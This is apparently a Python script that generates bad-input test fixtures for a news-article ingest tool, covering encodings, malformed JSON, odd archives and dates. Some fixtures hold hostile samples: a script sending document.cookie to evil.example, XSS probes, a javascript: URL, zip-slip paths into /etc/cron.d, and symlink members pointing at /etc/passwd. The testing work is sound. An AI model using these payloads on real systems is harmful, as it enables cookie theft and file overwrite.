"""Writes the small bad-input fixtures in this folder (run once; the outputs are committed).
Big ones (a 50 MB file, zip bombs, over-long articles) are made at test time in tmp_path,
see tests/ingest/test_bad_inputs.py."""

import io
import json
import zipfile
from pathlib import Path

HERE = Path(__file__).parent
ARTICLE = (
    "Rescue teams pulled 14 survivors from the collapsed building in the city centre on Tuesday, "
    "the regional governor said. Officials said the search would continue through the night."
)
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360"
    "00000000050001a5f645400000000049454e44ae426082"
)


def write(name, data):
    (HERE / name).write_bytes(data if isinstance(data, bytes) else data.encode("utf-8"))


def zip_bytes(members, flag_encrypted=False):
    """A zip of (name, data) members, or (name, data, unix mode) for links and the like."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data, *mode in members:
            info = zipfile.ZipInfo(name)
            if mode:
                info.create_system, info.external_attr = 3, mode[0] << 16
            zf.writestr(info, data)
    data = bytearray(buf.getvalue())
    if flag_encrypted:  # set bit 0 (encrypted) in every local and central header
        for sig, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            start = 0
            while (at := data.find(sig, start)) != -1:
                data[at + offset] |= 0x1
                start = at + 4
    return bytes(data)


def main():
    write("empty.txt", b"")
    write("blank-lines-only.txt", b"  \n\n\t \r\n")
    write("png-renamed.txt", PNG)
    write(
        "pdf-renamed.html", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"
    )
    write(
        "jpeg-renamed.json", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    )
    write("zip-renamed.txt", zip_bytes([("a.txt", ARTICLE)]))
    write("gzip-renamed.jsonl", bytes.fromhex("1f8b08000000000000034b4c4a06000000ffff"))
    write("elf-program.txt", b"\x7fELF\x02\x01\x01\x00" + bytes(56))
    write("nul-bytes.txt", b"abc\x00\x01\x02def\x00" * 20)
    write(
        "control-characters.txt", ("\x01\x02\x03\x04\x05\x06\x07\x08\x0e\x0f" * 30).encode("ascii")
    )
    write(
        "broken-utf8.txt",
        ARTICLE.replace("governor", "gouverneur–").encode("utf-8")[:120]
        + b"\xff\xfe"
        + ARTICLE.encode("utf-8")[120:],
    )
    write("utf16-odd-length.txt", b"\xff\xfe" + "Hello world".encode("utf-16-le") + b"\x00")
    write(
        "windows-1252.txt",
        (
            "\u201cWe will rebuild,\u201d the mayor said on Tuesday \u2013 a promise repeated "
            "by officials across the region after the floods destroyed the caf\u00e9s, "
            "shops and homes along the river."
        ).encode("cp1252"),
    )
    write(
        "utf16-with-bom.txt", "\ufeff".encode("utf-16-le").join([b"", ARTICLE.encode("utf-16-le")])
    )
    write(
        "utf8-with-bom.txt",
        b"\xef\xbb\xbf"
        + (
            b"Firefighters contained the blaze near the port by "
            b"Wednesday morning, the fire service said."
        ),
    )
    write(
        "russian-cp1251.txt",
        (
            "Спасатели извлекли из-под завалов 14 человек во вторник, сообщил губернатор "
            "области. По словам чиновников, поиски продолжатся всю ночь."
        ).encode("cp1251"),
    )
    write(
        "german.txt",
        "Die Rettungskräfte haben am Dienstag 14 Überlebende aus dem eingestürzten Gebäude "
        "in der Innenstadt geborgen, sagte der Gouverneur der Region.",
    )
    write(
        "scripts-and-iframes.html",
        """<!doctype html><html><head><title>Quake &lt;b&gt;live&lt;/b&gt;</title>
<script>alert('head script')</script></head><body>
<iframe src="https://ads.example/track"></iframe>
<article><h1>Quake survivors found</h1>
<p>Rescue teams pulled 14 survivors from the collapsed building in the city centre on
Tuesday, the regional governor said, adding that more than 200 people were still missing
after the earthquake.</p>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<p>Officials said the search would continue through the night with the help of teams from three
neighbouring countries, and that the airport would reopen on Thursday.
<img src=x onerror="alert(1)"></p>
</article></body></html>""",
    )
    write(
        "only-scripts-and-iframes.html",
        "<html><head><script>alert(1)</script></head><body>"
        "<iframe src='https://evil.example'></iframe><script>x()</script></body></html>",
    )
    write(
        "malformed-lines.jsonl",
        "\n".join(
            [
                json.dumps({"id": "good-1", "outlet": "Wire", "text": ARTICLE}),
                '{"id": "broken", "text": "no closing brace"',
                '["a", "list", "not", "an", "object"]',
                json.dumps({"id": "no-text", "outlet": "Wire"}),
                json.dumps({"id": "number-text", "text": 42}),
                json.dumps({"id": "empty-text", "text": "   "}),
                "",
                "not json at all",
            ]
        )
        + "\n",
    )
    write("truncated.json", '{"id": "cut", "text": "Rescue teams pulled 14 survivors')
    write("deeply-nested.json", "[" * 100000)
    write("empty-list.json", "[]")
    write("number.json", "42")
    write(
        "html-field-without-text.jsonl",
        json.dumps({"id": "h1", "html": "<script>alert(1)</script>"}) + "\n",
    )
    write(
        "javascript-url.jsonl",
        json.dumps(
            {
                "id": "js",
                "url": "javascript:alert(document.cookie)",
                "text": "Parliament approved the budget on Friday by 301 votes to 150, "
                "the speaker announced after a long night session.",
            }
        )
        + "\n",
    )
    write(
        "unreadable-date.jsonl",
        json.dumps(
            {
                "id": "when",
                "published": "the day before yesterday-ish??",
                "text": "The central bank held its key rate at 4.5 percent on Thursday, "
                "as most economists had expected.",
            }
        )
        + "\n",
    )
    write(
        "duplicate-ids.jsonl",
        "\n".join(
            [
                json.dumps(
                    {
                        "id": "same",
                        "text": "The bridge reopened to traffic on Monday after two years"
                        " of repairs.",
                    }
                ),
                json.dumps(
                    {
                        "id": "same",
                        "text": "A different story: the harbour closed for the storm on"
                        " Sunday night.",
                    }
                ),
            ]
        )
        + "\n",
    )
    write("duplicate-a.txt", ARTICLE)
    write("duplicate-b.txt", "  " + ARTICLE.upper().replace(". ", ".\n\n  ") + "\n")
    write("report.docx", b"PK\x03\x04" + bytes(30))
    write("no-extension", b"no extension")
    write(
        "zip-slip.zip",
        zip_bytes(
            [
                ("../../etc/cron.d/evil.txt", ARTICLE),
                ("/abs/path.txt", ARTICLE),
                ("..\\windows.txt", ARTICLE),
                ("safe/ok.txt", ARTICLE),
            ]
        ),
    )
    write(
        "nested-archive.zip",
        zip_bytes(
            [
                ("inner.zip", zip_bytes([("a.txt", ARTICLE)])),
                ("disguised.txt", zip_bytes([("b.txt", ARTICLE)])),
            ]
        ),
    )
    write("not-a-zip.zip", ARTICLE)
    write("truncated.zip", zip_bytes([("a.txt", ARTICLE * 20), ("b.txt", ARTICLE)])[:200])
    write("empty.zip", b"PK\x05\x06" + bytes(18))
    write("encrypted.zip", zip_bytes([("secret.txt", ARTICLE)], flag_encrypted=True))
    write(
        "macos-metadata.zip",
        zip_bytes([("story/a.txt", ARTICLE), ("__MACOSX/story/._a.txt", b"\x00\x05\x16\x07")]),
    )
    write(
        "folder-with-articles-jsonl.zip",
        zip_bytes(
            [
                ("export/articles.jsonl", json.dumps({"id": "x1", "text": ARTICLE}) + "\n"),
                ("export/x1.txt", ARTICLE),
            ]
        ),
    )
    write(
        "bad-members.zip",
        zip_bytes(
            [
                ("pic.txt", PNG),
                ("empty.txt", b""),
                ("notes.docx", b"x"),
                ("good.txt", "Water levels fell on Friday for the first time in a week."),
            ]
        ),
    )
    write(
        "six-members.zip",
        zip_bytes(
            [(f"m{i}.txt", f"Member {i} says something about the floods.") for i in range(6)]
        ),
    )

    hostile()


def jsonl(*rows):
    return "".join((r if isinstance(r, str) else json.dumps(r)) + "\n" for r in rows)


def with_raw_id(literal, text):
    """A JSONL line whose id is written as given (json.dumps would refuse or change it)."""
    return '{"id": ' + literal + ', "text": ' + json.dumps(text) + "}"


def hostile():
    """The holes a hostile-input run of manage.py ingest found (issue 14), one class each."""
    other = "Water levels fell on Friday for the first time in a week, the river authority said."
    # JSONL: every line-level failure is reported by its number; the lines after it import.
    write(
        "numbers-and-wrong-types.jsonl",
        jsonl(
            with_raw_id("9" * 5000, ARTICLE),
            with_raw_id("1e400", ARTICLE),
            with_raw_id("NaN", ARTICLE),
            with_raw_id("2.5", ARTICLE),
            {"id": True, "text": ARTICLE},
            {"id": "o", "outlet": {"name": "Wire"}, "text": ARTICLE},
            {"id": "t", "title": ["a", "list"], "text": ARTICLE},
            {"id": "p", "published": 20150918, "text": ARTICLE},
            '{"id": "s", "text": "Rescue teams pulled \\ud800 survivors from the rubble."}',
            {"id": "x" * 201, "text": ARTICLE},
            {"id": 12345678901234567890, "text": other},
        ),
    )
    # A relative publication date has no anchor: imported with no date, and said so.
    write(
        "relative-dates.jsonl",
        jsonl(
            {"id": "r1", "published": "yesterday", "text": ARTICLE},
            {"id": "r2", "published": "3 hours ago", "text": other},
            {"id": "r3", "published": "last Friday", "text": "The port reopened on Friday."},
            {"id": "r4", "published": "September 18", "text": "The port reopened on Monday."},
            {"id": "r5", "published": "18 September 2015", "text": "The port shut on Monday."},
        ),
    )
    # The outlet's own day, not the UTC day.
    write(
        "local-days.jsonl",
        jsonl(
            {"id": "kiribati", "published": "2015-09-18T05:00:00+14:00", "text": ARTICLE},
            {"id": "hawaii", "published": "2015-09-17T23:30:00-10:00", "text": other},
            {
                "id": "rfc",
                "published": "Sat, 19 Sep 2015 05:00:00 +1400",
                "text": "The ministry said today that 40 people were killed in the strikes.",
            },
        ),
    )
    # UTF-16 and UTF-32 without a byte-order mark.
    write("utf16le-no-bom.txt", ARTICLE.encode("utf-16-le"))
    write("utf16be-no-bom.txt", ARTICLE.encode("utf-16-be"))
    write("utf32le-no-bom.txt", ARTICLE.encode("utf-32-le"))
    write("utf32be-no-bom.txt", ARTICLE.encode("utf-32-be"))
    write(
        "greek-utf16le-no-bom.txt",
        "Οι ομάδες διάσωσης ανέσυραν 14 επιζώντες από το κτίριο που κατέρρευσε την Τρίτη, "
        "είπε ο περιφερειάρχης.".encode("utf-16-le"),
    )
    # Zip members that are links or devices are never read as files.
    write(
        "link-members.zip",
        zip_bytes(
            [
                ("passwd.txt", "/etc/passwd", 0o120777),
                ("story/up.txt", "../../secret.txt", 0o120777),
                ("fifo.txt", "", 0o010644),
                ("story/good.txt", ARTICLE, 0o100644),
            ]
        ),
    )
    # Saved pages that hold only site furniture; a text file of furniture alone.
    write(
        "cookie-banner-only.html",
        """<!doctype html><html><head><title>Example News</title></head><body>
<div class="cookie-banner"><p>We use cookies to improve your experience. By continuing to browse
you agree to our use of cookies.</p><button>Accept</button></div>
<div class="newsletter"><h3>Sign up to our newsletter</h3><p>Get the best stories delivered to
your inbox every morning. Subscribe now for updates.</p></div>
<footer><p>&copy; 2024 Example Media Ltd. All rights reserved.</p>
<p>Contact us | Privacy policy | Terms of use</p></footer></body></html>""",
    )
    write(
        "newsletter-and-footer-only.html",
        """<html><body><main><section class="promo"><h2>Never miss a story</h2>
<p>Sign up for our morning newsletter and get the headlines straight to your inbox.</p>
<p>Subscribe today for full access to every article.</p></section></main>
<footer><p>Copyright 2023 The Daily Example. All rights reserved.</p>
<p>Follow us on Facebook | X | Instagram</p></footer></body></html>""",
    )
    write(
        "furniture-only.txt",
        "This website uses cookies. Accept | Manage settings\n"
        "Sign up for the Daily Brief\n"
        "(Reporting by Jane Doe; Editing by John Roe)\n",
    )
    # A run of 12,000 characters with no sentence break.
    write("long-run-without-break.txt", " ".join(["word"] * 2400))


if __name__ == "__main__":
    main()
